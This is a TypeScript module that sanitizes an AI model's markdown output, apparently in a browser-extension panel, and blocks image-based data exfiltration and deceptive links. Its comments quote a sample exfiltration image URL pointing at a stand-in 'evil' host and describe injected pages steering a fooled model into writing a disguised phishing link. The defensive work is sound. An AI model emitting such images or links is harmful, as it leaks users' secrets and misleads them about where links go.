/**
 * The model's text is untrusted (a page can steer what it writes), so markdown becomes DOM only through DOMPurify,
 * and nothing in an answer may fetch from the network by itself: remote images become a button that loads the one
 * image on the user's click (images are a classic exfiltration channel: `![](https://evil/?q=<secret>)`).
 */
import { Marked } from 'marked';
import DOMPurify from 'dompurify';
import type { Translate } from '../../shared/i18n';

const marked = new Marked({ gfm: true, breaks: true, async: false });

/** A markdown subset: no forms, media, frames, styles or SVG, so nothing can run, fetch or overlay the panel. */
const ALLOWED_TAGS = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
  'input',
  'span',
];
const ALLOWED_ATTR = [
  'href',
  'title',
  'src',
  'alt',
  'class',
  'colspan',
  'rowspan',
  'align',
  'type',
  'checked',
  'disabled',
  'start',
];

/** Inline images the model may show without asking: they are in the text already, so loading them leaks nothing. */
const INLINE_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,/i;

export interface RenderOptions {
  /** Remote image URLs the user agreed to load, each to the blob: URL of its fetched copy (the panel's CSP lets no
   * remote image load by itself: img-src is 'self' data: blob:). */
  allowedImages?: ReadonlyMap<string, string>;
  /** Data-carrying image URLs the user clicked once: the placeholder now asks to confirm. */
  confirming?: ReadonlySet<string>;
  t: Translate;
}

let purifier: ReturnType<typeof DOMPurify> | undefined;
/** The allow-list of the render in progress (DOMPurify hooks are registered once, so they read it from here). */
let currentAllowed: ReadonlyMap<string, string> = new Map();

function getPurifier(): ReturnType<typeof DOMPurify> {
  if (purifier) return purifier;
  purifier = DOMPurify(window);
  purifier.addHook('uponSanitizeAttribute', (node, data) => {
    // GFM task-list checkboxes are the only inputs kept, and they stay read-only.
    if (node.nodeName === 'INPUT' && data.attrName === 'type' && data.attrValue !== 'checkbox') data.keepAttr = false;
  });
  // Runs in DOMPurify's inert document: a blocked image loses its src before it could ever reach a live document.
  purifier.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName !== 'IMG') return;
    const src = node.getAttribute('src') ?? '';
    if (INLINE_IMAGE.test(src)) return;
    const copy = /^https?:/i.test(src) ? currentAllowed.get(src) : undefined;
    if (copy) {
      node.setAttribute('src', copy);
      return;
    }
    node.removeAttribute('src');
    node.setAttribute('data-blocked-src', src);
  });
  return purifier;
}

function copyButton(code: HTMLElement, t: Translate): HTMLElement {
  const doc = code.ownerDocument;
  const wrap = doc.createElement('div');
  wrap.className = 'code-block';
  const button = doc.createElement('button');
  button.type = 'button';
  button.className = 'copy-code';
  button.setAttribute('data-copy-code', '');
  button.textContent = t('panelCopy');
  button.setAttribute('aria-label', t('panelCopyCode'));
  code.replaceWith(wrap);
  wrap.append(button, code);
  return wrap;
}

/**
 * Does loading this address send anything beyond "show me this picture"? A query, a fragment, user info, or a path
 * or host label holding an address, digits or a long run: when in doubt it is data (flows.ts reads URLs the same way).
 */
export function imageCarriesData(src: string): boolean {
  let u: URL;
  try {
    u = new URL(src);
  } catch {
    return true;
  }
  if (u.search || u.hash || u.username || u.password) return true;
  // Labels left of the site's own name carry data as well as a path does ("7319-4462.evil.example").
  const all = u.hostname.split('.');
  const labels = all.slice(0, all.at(-1) === 'localhost' ? -1 : -2).filter((l) => l !== 'www');
  if (labels.length > 0) return true;
  const parts = decodeURIComponent(u.pathname).split('/').filter(Boolean);
  return parts.some((p) => /@|\d{4,}|[^\w.-]/.test(p) || p.replace(/\.\w{2,5}$/, '').length > 24);
}

function imagePlaceholder(img: HTMLImageElement, src: string, options: RenderOptions): HTMLElement {
  const { t } = options;
  const doc = img.ownerDocument;
  const button = doc.createElement('button');
  button.type = 'button';
  button.className = 'remote-image';
  let host = src;
  try {
    host = new URL(src).host || src;
  } catch {
    // Not a URL: show it as written.
  }
  const alt = img.getAttribute('alt');
  if (alt) button.title = alt;
  if (!imageCarriesData(src)) {
    button.setAttribute('data-load-image', src);
    button.textContent = t('panelLoadImage', host);
    return button;
  }
  // The address carries data: the whole URL is shown with what it would send, and loading takes a second,
  // high-risk click that says where the data goes.
  const box = doc.createElement('span');
  box.className = 'remote-image-risky';
  const url = doc.createElement('code');
  url.textContent = src;
  const asked = options.confirming?.has(src);
  button.setAttribute(asked ? 'data-load-image-confirm' : 'data-load-image', src);
  button.setAttribute('data-kind', 'high-risk');
  button.textContent = asked ? t('safetyImageSendData', host) : t('safetyImageCarriesData', host);
  box.append(button, url);
  return box;
}

/** Where a link goes, as the user should read it: the host of a web address, the address of a mail link. */
function linkHost(href: string): string | undefined {
  try {
    const url = new URL(href);
    return url.protocol === 'mailto:' ? decodeURIComponent(url.pathname) : url.host;
  } catch {
    return undefined;
  }
}

/** Markdown -> sanitized HTML, with copy buttons on code blocks and remote images behind a click. */
export function renderMarkdown(text: string, options: RenderOptions): string {
  const html = marked.parse(text) as string;
  currentAllowed = options.allowedImages ?? new Map();
  const clean = getPurifier().sanitize(html, { ALLOWED_TAGS, ALLOWED_ATTR, ALLOW_DATA_ATTR: false });
  // A <template>'s content is inert: nothing in it loads while we finish the markup.
  const template = document.createElement('template');
  template.innerHTML = clean;
  const fragment = template.content;
  for (const input of fragment.querySelectorAll('input')) input.setAttribute('disabled', '');
  for (const link of fragment.querySelectorAll('a')) {
    const href = link.getAttribute('href') ?? '';
    if (!/^(https?:|mailto:)/i.test(href)) {
      // In-page anchors and relative links mean nothing in the panel; keep the words only.
      link.removeAttribute('href');
      continue;
    }
    link.setAttribute('target', '_blank');
    link.setAttribute('rel', 'noopener noreferrer');
    // A page can have a fooled model write "[your bank](https://evil.example/login)": the words say nothing of where
    // the link goes, so its host (a mail link's address) follows them unless they already name it (red team c13).
    const where = linkHost(href);
    if (where && !(link.textContent ?? '').toLowerCase().includes(where.toLowerCase())) {
      const note = document.createElement('span');
      note.className = 'link-host';
      note.textContent = ` (${where})`;
      link.append(note);
    }
  }
  for (const img of fragment.querySelectorAll('img')) {
    const blocked = img.getAttribute('data-blocked-src');
    if (blocked === null) img.setAttribute('referrerpolicy', 'no-referrer');
    else if (/^https?:/i.test(blocked)) img.replaceWith(imagePlaceholder(img, blocked, options));
    // Relative or odd sources cannot mean anything in the panel: keep only the words.
    else img.replaceWith(img.getAttribute('alt') ?? '');
  }
  for (const pre of [...fragment.querySelectorAll('pre')]) copyButton(pre, options.t);
  return template.innerHTML;
}
